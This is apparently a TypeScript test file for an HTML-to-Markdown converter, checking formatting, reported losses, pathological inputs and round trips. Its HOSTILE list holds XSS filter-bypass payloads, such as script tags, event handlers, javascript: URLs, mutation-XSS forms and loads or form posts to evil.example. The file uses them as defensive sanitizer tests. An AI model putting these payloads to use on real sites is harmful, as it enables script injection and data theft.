import fc from "fast-check";
import type { Nodes } from "mdast";
import { fromMarkdown } from "mdast-util-from-markdown";
import { gfmTableFromMarkdown } from "mdast-util-gfm-table";
import { gfmTable } from "micromark-extension-gfm-table";
import { describe, expect, test } from "vitest";
import { richText } from "@/lib/content/markdown";
import { FIXED_RUNS } from "@/lib/core/question/testing/arbitrary-question";
import { htmlToMarkdown, markdownToHtml, markupCost, plainTextToMarkdown } from "./html";

describe("HTML becomes Markdown", () => {
  test.each([
    { name: "bold and italics", html: "<p><b>a</b> and <em>b</em></p>", markdown: "**a** and *b*" },
    { name: "paragraphs and line breaks", html: "<p>a<br>b</p><p>c</p>", markdown: "a\\\nb\n\nc" },
    { name: "two line breaks", html: "<p><b>a<br>&nbsp;<br>b</b> c<br></p>d", markdown: "**a**\n\n**b** c\n\nd" },
    { name: "paragraphs that never end", html: "<p>a<p>b", markdown: "a\n\nb" },
    { name: "nested lists without end tags", html: "<ul><li>a<ul><li>b</ul><li>c</ul>", markdown: "- a\n  - b\n- c" },
    { name: "numbered lists", html: "<ol start=3><li>a</li><li>b</li></ol>", markdown: "3. a\n4. b" },
    {
      name: "links",
      html: '<a href="https://example.org/?a=1&amp;b=2">x</a>',
      markdown: "[x](https://example.org/?a=1\\&b=2)",
    },
    {
      name: "code blocks with their language",
      html: '<pre><code class="language-sql">a &lt; b\n  c\n</code></pre>',
      markdown: "```sql\na < b\n  c\n```",
    },
    { name: "code in a line", html: "<p>run <tt>a*b</tt></p>", markdown: "run `a*b`" },
    {
      name: "tables, with blocks and bars in their cells",
      html: "<table><tr><th>h<th>i<tr><td><p>a</p><p>b</p><td>c|d</table>",
      markdown: "| h | i |\n| - | - |\n| a b | c\\|d |",
    },
    { name: "quotes", html: "<blockquote><p>a</p></blockquote>", markdown: "> a" },
    { name: "headings", html: "<h3>a</h3>b", markdown: "### a\n\nb" },
    {
      name: "characters that Markdown would take",
      html: "<p>2*3*4 [x](y) # _a_</p>",
      markdown: "2\\*3\\*4 \\[x]\\(y) # \\_a\\_",
    },
    { name: "character references", html: "&lt;b&gt; &eacute;&#233;&#xe9; &amp;amp;", markdown: "\\<b> ééé \\&amp;" },
    { name: "raised and lowered digits", html: "10<sup>-6</sup> H<sub>2</sub>O", markdown: "10⁻⁶ H₂O" },
    { name: "a lone less-than sign", html: "a < b and c <d", markdown: "a < b and c \\<d" },
    {
      name: "what a word processor adds",
      html: "<p class=MsoNormal><span lang=EN>a<o:p></o:p></span></p>",
      markdown: "a",
    },
    { name: "text without any markup", html: "  Just words, no more.  ", markdown: "Just words, no more." },
    { name: "nothing", html: "", markdown: "" },
    { name: "right-to-left text and emoji", html: "<p>שלום <b>🙂</b></p>", markdown: "שלום **🙂**" },
  ])("$name", ({ html, markdown }) => {
    expect(htmlToMarkdown(html)).toEqual({ markdown, losses: [] });
  });

  test.each([
    { name: "an image", html: 'a<img src="x.png" alt="A plot">', markdown: "a", loss: "image “A plot” was not taken" },
    {
      name: "an embedded image",
      html: "a<img src='data:image/png;base64,AAAA'>",
      markdown: "a",
      loss: "image embedded in the text was not taken",
    },
    {
      name: "a struck-through word",
      html: "<s>no</s> yes",
      markdown: "no yes",
      loss: "“no” was struck through and no longer is",
    },
    {
      name: "a power without a character",
      html: "2<sup>xy</sup>",
      markdown: "2^(xy)",
      loss: "raised text was written as “^(xy)”",
    },
    {
      name: "colours",
      html: "<p style='color:red'>a</p>",
      markdown: "a",
      loss: "colours, fonts and sizes were not taken",
    },
    { name: "a formula", html: "a<math><mi>x</mi></math>", markdown: "a", loss: "a formula (<math>) was not taken" },
    {
      name: "merged cells",
      html: "<table><tr><th colspan=2>a<tr><td>b<td>c</table>",
      markdown: "| a | |\n| - | - |\n| b | c |",
      loss: "merged table cells were parted",
    },
    {
      name: "a link within the old system",
      html: '<a href="/mod/1">a</a>',
      markdown: "a",
      loss: "the address behind “a” was not taken",
    },
  ])("$name is said to be lost", ({ html, markdown, loss }) => {
    expect(htmlToMarkdown(html)).toEqual({ markdown, losses: [loss] });
  });
});

/** Whatever a browser might run, in the shapes that filters have been fooled with. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script>alert('</scr'+'ipt>')",
  "<img src=x onerror=alert(1)>",
  "<img/src='x'/onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='java&#x09;script:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='//evil.example'>x</a>",
  "<a href='/\\evil.example'>x</a>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data='javascript:alert(1)'><embed src='x.swf'></object>",
  "<base href='https://evil.example/'><a href='x'>x</a>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<p style='background:url(https://evil.example/x)'>x</p>",
  "<form action=https://evil.example><input name=a><button>Send</button></form>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<video><source onerror=alert(1)></video>",
  "<details open ontoggle=alert(1)>x</details>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?php echo 1 ?>x",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<b <script>alert(1)</script>",
  "<p/onclick=alert(1)>x",
  '<div data-markdown="[x](javascript:alert(1))"><p><a>x</a></p></div>',
  '<div data-markdown="&lt;javascript:alert(1)>"><p><a>javascript:alert(1)</a></p></div>',
  "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
];

const TAKEN = new Set(
  "root paragraph heading text strong emphasis inlineCode code break link list listItem blockquote table tableRow tableCell thematicBreak".split(
    " ",
  ),
);

/** What a Markdown text holds that may not be in one that comes from outside: HTML, images, addresses that run or hide. */
function forbidden(markdown: string): string[] {
  const left: Nodes[] = [
    fromMarkdown(markdown, { extensions: [gfmTable()], mdastExtensions: [gfmTableFromMarkdown()] }),
  ];
  const found: string[] = [];
  for (let node = left.pop(); node !== undefined; node = left.pop()) {
    if (!TAKEN.has(node.type)) found.push(node.type);
    if (node.type === "link" && !/^(?:https?:\/\/[\w.-]+|mailto:\w)/.test(node.url)) found.push(node.url);
    if ("children" in node) left.push(...node.children);
  }
  return found;
}

describe("hostile HTML leaves nothing that runs or loads", () => {
  test.each(HOSTILE.map((html) => ({ html })))("$html", ({ html }) => {
    for (const around of [html, `<p>a ${html} b</p>`, `<table><tr><td>${html}</table>`, `<ul><li>${html}`]) {
      const { markdown } = htmlToMarkdown(around);
      expect(forbidden(markdown)).toEqual([]);
    }
  });

  test("each of what is left out is said", () => {
    expect(htmlToMarkdown("<script>1</script><iframe></iframe><form><input></form><p onclick=x>y").losses).toEqual([
      "a script (<script>) was not taken",
      "an embedded page (<iframe>) was not taken",
      "a form field (<input>) was not taken",
      "an event handler (onclick) was not taken",
    ]);
  });
});

describe("no text takes long, much memory or the stack", () => {
  const many = (text: string, count = 20_000) => text.repeat(count);
  test.each([
    { name: "elements within elements", html: many("<div>") },
    { name: "lists within lists", html: many("<ul><li>") },
    { name: "quotes within quotes", html: many("<blockquote>") },
    { name: "tables within tables", html: many("<table><tr><td>") },
    {
      name: "formatting that is opened again in every paragraph",
      html: many("<b><i><u><s><a href=x><code>") + many("<p>x"),
    },
    { name: "formatting with attributes", html: many("<font color=red size=1>", 5_000) + many("<p>x") },
    { name: "tags that never end", html: many("<a <a ") },
    { name: "quotes that never end", html: many("<a b=' c=\"") },
    { name: "comments that never end", html: many("<!--") },
    { name: "end tags of nothing", html: many("</b></p></td>") },
    { name: "wide rows and many of them", html: `<table><tr>${many("<td>x")}${many("<tr><td>y")}` },
    { name: "cells that span", html: `<table>${many("<tr><td rowspan=19 colspan=19>x", 8_000)}` },
    { name: "emphasis marks", html: many("*_", 100_000) },
    { name: "brackets", html: many("![[", 80_000) },
    { name: "blanks", html: `a${many(" ", 250_000)}b` },
    { name: "ampersands", html: many("&#x", 80_000) },
  ])("$name", { timeout: 10_000 }, ({ html }) => {
    const start = performance.now();
    const { markdown } = htmlToMarkdown(html);
    expect(performance.now() - start).toBeLessThan(6_000);
    expect(markdown.length).toBeLessThan(30 * html.length + 100);
  });

  test.each([
    { name: "quotes within quotes", markdown: ">".repeat(8_000) },
    { name: "emphasis within emphasis", markdown: `${"*".repeat(3_999)}a${"*".repeat(3_999)}` },
    { name: "lists within lists", markdown: "- ".repeat(4_000) },
    { name: "brackets", markdown: "[".repeat(8_000) },
  ])("Markdown: $name", ({ markdown }) => {
    const { html } = markdownToHtml(markdown, { keepSource: true });
    expect(htmlToMarkdown(html).markdown).not.toBe("");
  });

  test("so many marks that a text may come back in other characters are said", () => {
    expect(markdownToHtml("_a_ ".repeat(501), { keepSource: true }).losses).toEqual([
      "so much Markdown may come back in other characters",
    ]);
    expect(markdownToHtml("_a_ ".repeat(400), { keepSource: true }).losses).toEqual([]);
  });

  test.each([
    { html: "Just a line: of words, no more.", cost: 0 },
    { html: '<p dir="ltr">Just a line.</p>', cost: 0 },
    { html: "<p>a <b>b</b></p>", cost: 5 },
    { html: "*".repeat(100), cost: 3 },
  ])("$html costs $cost tags", ({ html, cost }) => {
    expect(markupCost(html)).toBe(cost);
  });
});

describe("plain text", () => {
  test.each([
    "# a",
    "1. b",
    "- c",
    "*d* _e_ `f`",
    "<g>",
    "&amp;",
    "a|b",
    "[h](i)",
    "\\",
    "***",
    "~~~",
    "    code",
    "+ x",
    "a\n===",
    "> q",
  ])("%j shows as it is", (plain) => {
    const [block, ...more] = richText(plainTextToMarkdown(plain));
    expect(more).toEqual([]);
    expect(block).toMatchObject({ kind: "paragraph" });
    const shown = block?.kind === "paragraph" ? block.inlines : [];
    expect(shown.map((inline) => (inline.kind === "text" ? inline.text : "\n")).join("")).toBe(plain.trim());
  });

  test("blank lines part paragraphs, line ends are kept", () => {
    expect(plainTextToMarkdown("a\r\nb\n\n\nc")).toBe("a\\\nb\n\nc");
  });
});

const PIECES = [
  ..."abc  \n\n*_`#>|~[]()!<>&\"'\\-+=.:{}1".split(""),
  ...[
    "**",
    "- ",
    "1. ",
    "\n\n",
    "```\n",
    "| a | b |\n|---|---|\n| c | d |\n",
    "[x](https://example.org)",
    "![y](z.png)",
  ],
  ...[
    "<b>",
    "</p>",
    "<!--",
    "&nbsp;",
    "]]>",
    "\u200b",
    "\u202e",
    "שלום",
    "🙂",
    "\u00a0",
    "\t",
    "\r\n",
    "{=}",
    "@@PLUGINFILE@@",
  ],
];
const arbitraryMarkdown = fc.string({ unit: fc.constantFrom(...PIECES), minLength: 1, maxLength: 60 });

describe("there and back", () => {
  test("Markdown that carries its source comes back to the character", () => {
    fc.assert(
      fc.property(arbitraryMarkdown, (markdown) => {
        expect(htmlToMarkdown(markdownToHtml(markdown, { keepSource: true }).html).markdown).toBe(markdown);
      }),
      { ...FIXED_RUNS, numRuns: 1_000 },
    );
  });

  test("HTML that was changed beside its source wins over it", () => {
    const { html } = markdownToHtml("_a_", { keepSource: true });
    expect(html).toBe('<div data-markdown="_a_"><p><em>a</em></p></div>');
    expect(htmlToMarkdown(html.replace("<em>a", "<em>b")).markdown).toBe("*b*");
  });

  test("addresses that run are not written, and not carried", () => {
    const { html, losses } = markdownToHtml("[x](javascript:alert(1)) _y_", { keepSource: true });
    expect(html).toBe("<p><a>x</a> <em>y</em></p>");
    expect(losses).toEqual(["the address “javascript:alert(1)” was not written"]);
  });

  test.each(["[a]::a", "[x](/learn/1)", "[x](#top)", "[x](mailto:a@example.org)", "![p](diagrams/p.svg)"])(
    "%s is no such address and is carried",
    (markdown) => {
      expect(htmlToMarkdown(markdownToHtml(markdown, { keepSource: true }).html).markdown).toBe(markdown);
    },
  );

  test("HTML in Markdown is written as the text that it is", () => {
    expect(markdownToHtml("a <b>c</b>\n\n<script>d</script>").html).not.toMatch(/<(?:b|script)/);
  });

  test("any bytes of HTML: no throw, and what comes is Markdown without HTML", () => {
    const soup = fc.string({
      unit: fc.constantFrom(
        ..."abc <>/=\"'&;!-".split(""),
        "<p>",
        "</p>",
        "<b",
        "<table>",
        "<tr>",
        "<td>",
        "<li>",
        "<!--",
        "-->",
        "<script>",
        "</script>",
        "&lt;",
        " href=",
        "<svg>",
      ),
      maxLength: 80,
    });
    fc.assert(
      fc.property(soup, (html) => {
        const { markdown } = htmlToMarkdown(html);
        expect(forbidden(markdown)).toEqual([]);
      }),
      { ...FIXED_RUNS, numRuns: 1_000 },
    );
  });
});
